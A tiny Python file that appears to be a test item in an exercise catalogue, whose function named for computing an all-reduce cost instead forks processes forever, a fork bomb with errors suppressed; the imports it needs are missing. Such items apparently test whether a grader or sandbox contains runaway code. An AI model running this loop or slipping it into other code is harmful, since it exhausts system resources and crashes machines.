"""Forks forever.

catalogue: F01
exercise: week01.naive-bill
points: 0
sentence: ended
timeout: 1.5
"""


def naive_all_reduce_bill(num_ranks, num_bytes):
    while True:
        with suppress(OSError):
            os.fork()
